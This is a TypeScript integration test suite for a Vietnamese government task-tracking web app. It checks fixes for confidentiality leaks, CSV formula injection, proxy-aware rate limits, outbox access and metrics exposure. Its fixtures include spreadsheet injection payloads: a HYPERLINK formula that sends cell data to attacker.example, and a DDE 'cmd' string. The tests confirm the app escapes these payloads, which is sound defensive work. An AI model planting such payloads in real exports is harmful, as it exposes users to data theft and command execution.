// What the by-hand security test of issue 17 reached of the staff side without the right to, tried
// again from the visitor's side: the web app listening on a real port, fetch, real PostgreSQL. One
// test per finding, numbered as in the issue: 4 directives (a confidential one among them) on the
// home page, lists, exports and mails; 6 spreadsheet formulas in CSV exports; 8 the per-address
// limits behind a reverse proxy; 14 the mail outbox; 16 /metrics and the caching of staff pages.
import { readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import type { FastifyInstance } from 'fastify';
import { parse } from 'csv-parse/sync';
import { buildApp } from '../../client/web/app';
import { serveWeb } from '../../client/web/serve';
import { startSmtpSink } from '../../client/stack/smtp-sink';
import { createNotify } from '../../activities/notify';
import { createSmtpMailer } from '../../activities/mailer';
import type { NotifyInput } from '../../activities/types';
import { createLinks } from '../../db/links';
import { createReadModel } from '../../db/read-model';
import { addDays } from '../../domain/calendar';
import { overdueCutoff } from '../../domain/board';
import type { Config } from '../../config';
import { exampleUnits, seedDirective, taskRecord } from '../helpers/seed';
import { addUser, csrfIn, PASSWORD, startStaffApp, type StaffApp } from '../helpers/staff';
import { freePort } from '../helpers/ports';
import { reportFigures } from './parts';

jest.setTimeout(120_000);

const SECRET = '7/UBND-MAT';
const SECRET_TITLE = 'Kế hoạch bảo vệ bí mật nhà nước năm 2027';
const SECRET_TASK = 'Rà soát danh mục tài liệu tối mật của Sở';
const OPEN = '8/UBND-VP9';
const OPEN_TITLE = 'Tuyên truyền phòng, chống thiên tai mùa mưa bão';
/** Cells a spreadsheet program would run: a unit's name, a task's title and an indicator's name planted by whoever can write them. */
const FORMULA_UNIT = '=HYPERLINK("http://attacker.example/?d="&A1,"Sở Tư pháp")';
const FORMULA_TASK = "@SUM(1+1)*cmd|' /C calc'!A0";
const FORMULA_INDICATOR = '+Số tài liệu đã rà soát';
const FORMULA = /^[=+\-@\t\r]/;

const cut = overdueCutoff(Date.now());
let s: StaffApp;
let web: FastifyInstance;
let base: string;
let sink: Awaited<ReturnType<typeof startSmtpSink>>;
const cookieOf: Record<'coordinator' | 'supervisor' | 'admin', string> = { coordinator: '', supervisor: '', admin: '' };
const figures: Record<string, number | string> = {};

/** The app on a loopback port of its own, as `dondoc web` serves it. */
async function listening(config: Partial<Config> = {}): Promise<{ app: FastifyInstance; origin: string }> {
  const app = await buildApp({
    config: { ...s.config, ...config },
    pool: s.pool,
    readModel: s.readModel,
    links: createLinks(s.pool),
  });
  await app.listen({ host: '127.0.0.1', port: 0 });
  return { app, origin: `http://127.0.0.1:${(app.server.address() as AddressInfo).port}` };
}

/** Cookies as a browser keeps them: later ones over earlier ones of the same name. */
function jar(earlier: string, res: Response): string {
  const all = new Map(
    [...earlier.split('; ').filter(Boolean), ...res.headers.getSetCookie().map((c) => c.split(';')[0])].map((c) => {
      const i = c.indexOf('=');
      return [c.slice(0, i), c.slice(i + 1)] as [string, string];
    }),
  );
  return [...all].map(([k, v]) => `${k}=${v}`).join('; ');
}

const get = (url: string, cookie = '', headers: Record<string, string> = {}, origin = base) =>
  fetch(`${origin}${url}`, { headers: { ...headers, cookie }, redirect: 'manual' });

/** The login form as a browser sends it: the page first (its cookie and form token), then the POST. */
async function logIn(email: string, o: { password?: string; origin?: string; headers?: Record<string, string> } = {}) {
  const origin = o.origin ?? base;
  const form = await get('/dang-nhap', '', o.headers, origin);
  const cookie = jar('', form);
  const res = await fetch(`${origin}/dang-nhap`, {
    method: 'POST',
    redirect: 'manual',
    headers: { ...o.headers, cookie, 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({
      _csrf: csrfIn(await form.text()),
      email,
      password: o.password ?? PASSWORD,
      totp: '',
      next: '',
    }),
  });
  return { status: res.status, cookie: jar(cookie, res), body: await res.text() };
}

async function seed(): Promise<void> {
  await s.readModel.upsertUnits(exampleUnits().map((u) => (u.code === 'NB-STP' ? { ...u, name: FORMULA_UNIT } : u)));
  for (const [number, title, confidentiality] of [
    [SECRET, SECRET_TITLE, 'confidential'],
    [OPEN, OPEN_TITLE, 'normal'],
  ] as const)
    await seedDirective(s.readModel, {
      number,
      title,
      issuedOn: '2026-01-05',
      confidentiality,
      tasks: ['NB-STTTT', 'NB-STP'].map((unit) => ({
        unit,
        title: number === SECRET ? SECRET_TASK : unit === 'NB-STP' ? FORMULA_TASK : 'Báo cáo kết quả',
        deadline: { workingDays: 5 },
        indicators: [{ code: 'docs', name: FORMULA_INDICATOR, unit: 'tài liệu' }],
      })),
    });
  const overdue = { deadline: addDays(cut, -10), level: 3 };
  await s.readModel.upsertTask(taskRecord({ directive: SECRET, unit: 'NB-STTTT', title: SECRET_TASK, ...overdue }));
  await s.readModel.upsertTask(taskRecord({ directive: OPEN, unit: 'NB-STP', title: FORMULA_TASK, ...overdue }));
  await s.readModel.upsertTask(
    taskRecord({
      directive: SECRET,
      unit: 'NB-STP',
      title: SECRET_TASK,
      deadline: addDays(cut, -3),
      phase: 'done',
      doneAt: Date.now() - 86_400_000,
      indicators: { docs: 12 },
    }),
  );
}

beforeAll(async () => {
  const smtpPort = await freePort();
  s = await startStaffApp({ env: { SMTP_SINK_PORT: String(smtpPort) } });
  sink = await startSmtpSink(s.pool, smtpPort);
  await seed();
  ({ app: web, origin: base } = await listening());
  for (const role of ['coordinator', 'supervisor', 'admin'] as const) {
    const u = await addUser(s, role);
    const { status, cookie } = await logIn(u.email);
    expect(status).toBe(303);
    cookieOf[role] = cookie;
  }
}, 120_000);
afterAll(async () => {
  reportFigures('staff-exposure', figures);
  await web?.close();
  await sink?.stop();
  await s?.stop();
});

test('4: an anonymous visitor sees no directive; a confidential one shows its title only to the office and on its own pages, by its number and "Mật" in lists, exports and mails to the leaders', async () => {
  // Anonymous: the home page is a door (log in, lost your link?), not a list.
  const home = await get('/');
  const homePage = await home.text();
  expect(home.status).toBe(200);
  expect(homePage).toContain('href="/dang-nhap"');
  expect(homePage).toContain('href="/lien-ket"');
  for (const secret of [SECRET, SECRET_TITLE, OPEN, OPEN_TITLE]) expect(homePage).not.toContain(secret);

  // The office (coordinators, admins) reads it everywhere behind login.
  expect(await (await get('/', cookieOf.coordinator)).text()).toContain(SECRET_TITLE);
  expect(await (await get('/van-ban', cookieOf.coordinator)).text()).toContain(SECRET_TITLE);
  expect(await (await get('/giam-sat', cookieOf.admin)).text()).toContain(SECRET_TASK);

  // A supervisor: the number and "Mật" wherever many directives are listed.
  const listed = {
    home: await (await get('/', cookieOf.supervisor)).text(),
    board: await (await get('/giam-sat', cookieOf.supervisor)).text(),
    month: await (await get('/giam-sat/thang', cookieOf.supervisor)).text(),
    api: await (await get('/api/v1/board', cookieOf.supervisor)).text(),
  };
  for (const [page, text] of Object.entries(listed)) {
    expect([page, text.includes(SECRET_TITLE) || text.includes(SECRET_TASK)]).toEqual([page, false]);
    expect([page, text.includes('Mật')]).toEqual([page, true]);
  }
  expect(listed.board).toContain(SECRET);
  expect(listed.board).toContain(OPEN_TITLE);
  // …and in full on the directive's own pages, which they reach by its number.
  expect(await (await get(`/van-ban/tong-hop?so=${encodeURIComponent(SECRET)}`, cookieOf.supervisor)).text()).toContain(
    SECRET_TITLE,
  );
  // A file leaves the login behind: every export of the list carries the number only, whoever asks.
  for (const role of ['supervisor', 'admin'] as const) {
    const csv = await (await get('/giam-sat/qua-han.csv', cookieOf[role])).text();
    expect(csv).not.toContain(SECRET_TASK);
    expect(csv).toMatch(new RegExp(`${SECRET.replace('/', '\\/')}.*Mật`));
  }
  // The board and the scorecards still work.
  expect((await get('/giam-sat/xep-hang', cookieOf.supervisor)).status).toBe(200);
  expect((await get('/giam-sat/xep-hang.csv', cookieOf.supervisor)).status).toBe(200);

  // Escalations up the ladder: a confidential directive's mail to the steering committee gives its
  // number and a page to log in to; an ordinary one's gives its title and the task's link.
  const notify = createNotify({
    pool: s.pool,
    readModel: createReadModel(s.pool),
    links: createLinks(s.pool),
    mailer: createSmtpMailer(sink.smtpUrl),
    from: 'dondoc@ubnd.ninhbinh.example.vn',
    publicUrl: 'https://dondoc.ninhbinh.example.vn',
    lang: 'vi',
  });
  const escalate = (number: string, title: string, unit: string, task: string): NotifyInput => ({
    key: `task:${number}:${unit}:escalation:3`,
    kind: 'escalation',
    taskWorkflowId: `task:${number}:${unit}`,
    directive: { key: number, number, title, issuer: 'UBND tỉnh Ninh Bình' },
    unit,
    task: { title: task, deadline: addDays(cut, -10), role: 'lead' },
    level: 3,
    target: 'steering',
  });
  await notify(escalate(SECRET, SECRET_TITLE, 'NB-STTTT', SECRET_TASK));
  await notify(escalate(OPEN, OPEN_TITLE, 'NB-STP', FORMULA_TASK));
  const mail = async (number: string) =>
    (
      await s.pool.query(
        `SELECT subject, body_text, body_html FROM mailbox WHERE subject LIKE $1 AND $2 = ANY(rcpt_to)`,
        [`[${number}]%`, 'bcd.nhanquyen@ninhbinh.example.vn'],
      )
    ).rows[0];
  const sealed = await mail(SECRET);
  const plain = await mail(OPEN);
  expect(sealed).toBeDefined();
  const sealedText = `${sealed.subject}\n${sealed.body_text}\n${sealed.body_html}`;
  expect(sealedText).not.toContain(SECRET_TITLE);
  expect(sealedText).not.toContain(SECRET_TASK);
  expect(sealedText).not.toMatch(/\/t\/[A-Za-z0-9_-]{43}/);
  expect(sealed.body_text).toContain(SECRET);
  expect(sealed.body_text).toContain('Mật');
  expect(sealed.body_text).toContain('https://dondoc.ninhbinh.example.vn/dang-nhap');
  expect(plain.body_text).toContain(OPEN_TITLE);
  expect(plain.body_text).toMatch(/\/t\/[A-Za-z0-9_-]{43}/);
  figures.confidentialPlacesChecked = Object.keys(listed).length + 3;
});

test('6: a unit name, task title or indicator name that starts a formula reaches every CSV export as text', async () => {
  const exports = {
    board: '/giam-sat/qua-han.csv',
    consolidated: `/van-ban/tong-hop.csv?so=${encodeURIComponent(SECRET)}`,
    scorecard: '/giam-sat/xep-hang.csv',
  };
  let neutralised = 0;
  for (const [name, url] of Object.entries(exports)) {
    const res = await get(url, cookieOf.admin);
    expect([name, res.status]).toEqual([name, 200]);
    const cells: string[] = parse((await res.text()).replace(/^\ufeff/, '')).flat();
    expect([name, cells.filter((c) => FORMULA.test(c))]).toEqual([name, []]);
    neutralised += cells.filter((c) => /^'[=+\-@\t\r]/.test(c)).length;
    expect([name, cells.includes(`'${FORMULA_UNIT}`)]).toEqual([name, true]);
  }
  const board = (await (await get(exports.board, cookieOf.admin)).text()).replace(/^\ufeff/, '');
  expect(board).toContain(`'${FORMULA_TASK}`);
  const consolidated = await (await get(exports.consolidated, cookieOf.admin)).text();
  expect(consolidated).toContain(`'${FORMULA_INDICATOR}`);
  figures.exports = Object.keys(exports).length;
  figures.cellsNeutralised = neutralised;
});

test('8: behind a trusted proxy two clients get login and link buckets of their own; X-Forwarded-For from anyone else is ignored', async () => {
  const LINK_LIMIT = 3;
  const badLink = `/t/${'x'.repeat(43)}`;
  /** Answers of n wrong logins (each a new address, so no account locks) and n+1 link visits as `client`. */
  const hammer = async (origin: string, client: string, logins: number) => {
    const headers = { 'x-forwarded-for': client };
    const form = await get('/dang-nhap', '', headers, origin);
    const cookie = jar('', form);
    const csrf = csrfIn(await form.text());
    const answers: number[] = [];
    for (let i = 0; i < logins; i++) {
      const res = await fetch(`${origin}/dang-nhap`, {
        method: 'POST',
        redirect: 'manual',
        headers: { ...headers, cookie, 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({
          _csrf: csrf,
          email: `khong-co-${client}-${i}-${Date.now()}@example.vn`,
          password: 'không đúng mật khẩu',
          totp: '',
          next: '',
        }),
      });
      answers.push(res.status);
    }
    const links: number[] = [];
    for (let i = 0; i <= LINK_LIMIT; i++) links.push((await get(badLink, '', headers, origin)).status);
    return { logins: answers, links };
  };
  const ten401 = Array(10).fill(401);

  const trusted = await listening({ TRUST_PROXY: '127.0.0.1/32', LINK_RATE_LIMIT: LINK_LIMIT });
  try {
    const a = await hammer(trusted.origin, '203.0.113.10', 11);
    const b = await hammer(trusted.origin, '203.0.113.20', 1);
    expect(a).toEqual({ logins: [...ten401, 429], links: [403, 403, 403, 429] });
    expect(b).toEqual({ logins: [401], links: [403, 403, 403, 429] });
  } finally {
    await trusted.app.close();
  }

  // The same headers from a peer that is not the proxy: one address, one bucket.
  const untrusted = await listening({ TRUST_PROXY: '10.0.0.0/8', LINK_RATE_LIMIT: LINK_LIMIT });
  try {
    const a = await hammer(untrusted.origin, '203.0.113.30', 10);
    const b = await hammer(untrusted.origin, '203.0.113.40', 1);
    expect(a.logins).toEqual(ten401);
    expect(b).toEqual({ logins: [429], links: [429, 429, 429, 429] });
  } finally {
    await untrusted.app.close();
  }
  figures.proxyClients = 4;
});

test('14: the mail outbox, with every link sent, opens only to a logged-in coordinator or admin', async () => {
  const mailer = createSmtpMailer(sink.smtpUrl);
  await mailer.send({
    from: 'dondoc@ubnd.ninhbinh.example.vn',
    to: ['vanthu@stttt.ninhbinh.example.vn'],
    subject: '[8/UBND-VP9] Giao nhiệm vụ',
    text: 'Mở nhiệm vụ: https://dondoc.ninhbinh.example.vn/t/' + 'A'.repeat(43),
    messageId: '<outbox-check@dondoc>',
  });
  mailer.close();
  const { rows } = await s.pool.query(`SELECT id FROM mailbox ORDER BY id DESC LIMIT 1`);
  const one = `/outbox/${rows[0].id}`;
  const answers: Record<string, number[]> = {};
  for (const [who, cookie] of [
    ['anonymous', ''],
    ['supervisor', cookieOf.supervisor],
    ['coordinator', cookieOf.coordinator],
    ['admin', cookieOf.admin],
  ]) {
    const list = await get('/outbox', cookie);
    const message = await get(one, cookie);
    if (who === 'anonymous') {
      expect(list.headers.get('location')).toBe('/dang-nhap?next=%2Foutbox');
      expect(await list.text()).not.toContain('/t/');
    }
    answers[who] = [list.status, message.status];
  }
  expect(answers).toEqual({
    anonymous: [303, 303],
    supervisor: [403, 403],
    coordinator: [200, 200],
    admin: [200, 200],
  });
  // Its link in the header is offered to those it opens for, and to no one else.
  const linked: Record<string, boolean> = {};
  for (const [who, cookie] of Object.entries({ anonymous: '', ...cookieOf })) {
    const page = await get(who === 'anonymous' ? '/dang-nhap' : '/giam-sat/cay', cookie);
    linked[who] = (await page.text()).includes('href="/outbox"');
  }
  expect(linked).toEqual({ anonymous: false, supervisor: false, coordinator: true, admin: true });
  // The start message and the README tell a new user to make an account first.
  expect(readFileSync('README.md', 'utf8')).toMatch(/user add --email [^\n]* --role coordinator/);
  expect(readFileSync('client/cli/dev.ts', 'utf8')).toMatch(/user add --email [^\n]* --role coordinator/);
});

test('16: /metrics is served on its own loopback port, not the web port; every staff page and export says no-store', async () => {
  const [webPort, metricsPort] = [await freePort(), await freePort()];
  const served = await serveWeb(
    {
      config: { ...s.config, WEB_HOST: '127.0.0.1', WEB_PORT: webPort, METRICS_PORT: metricsPort },
      pool: s.pool,
      readModel: s.readModel,
      links: createLinks(s.pool),
    },
    { logger: false },
  );
  try {
    expect((await get('/metrics', '', {}, `http://127.0.0.1:${webPort}`)).status).toBe(404);
    const metrics = await fetch(`http://127.0.0.1:${metricsPort}/metrics`);
    expect(metrics.status).toBe(200);
    expect(await metrics.text()).toContain('dondoc_link_refusals_total');
  } finally {
    await served.close();
  }
  const off = await serveWeb(
    {
      config: { ...s.config, WEB_HOST: '127.0.0.1', WEB_PORT: webPort, METRICS_PORT: 'off' } as unknown as Config,
      pool: s.pool,
      readModel: s.readModel,
      links: createLinks(s.pool),
    },
    { logger: false },
  );
  try {
    expect(await fetch(`http://127.0.0.1:${metricsPort}/metrics`).catch(() => 'refused')).toBe('refused');
  } finally {
    await off.close();
  }

  const so = encodeURIComponent(SECRET);
  const pages: [keyof typeof cookieOf, string][] = [
    ['coordinator', '/'],
    ['coordinator', '/van-ban'],
    ['coordinator', `/van-ban/ma-tran?so=${so}`],
    ['coordinator', `/van-ban/tong-hop?so=${so}`],
    ['coordinator', `/van-ban/tong-hop.csv?so=${so}`],
    ['coordinator', `/van-ban/tong-hop.docx?so=${so}`],
    ['coordinator', '/outbox'],
    ['supervisor', '/giam-sat'],
    ['supervisor', '/giam-sat/thang'],
    ['supervisor', '/giam-sat/qua-han.csv'],
    ['supervisor', '/giam-sat/xep-hang'],
    ['supervisor', '/giam-sat/xep-hang.csv'],
    ['admin', '/quan-tri/nguoi-dung'],
    ['admin', '/api/v1/board'],
  ];
  const cached: string[] = [];
  for (const [role, url] of pages) {
    const res = await get(url, cookieOf[role]);
    expect([url, res.status]).toEqual([url, 200]);
    if (res.headers.get('cache-control') !== 'no-store') cached.push(`${url}: ${res.headers.get('cache-control')}`);
  }
  expect(cached).toEqual([]);
  figures.noStorePages = pages.length;
});
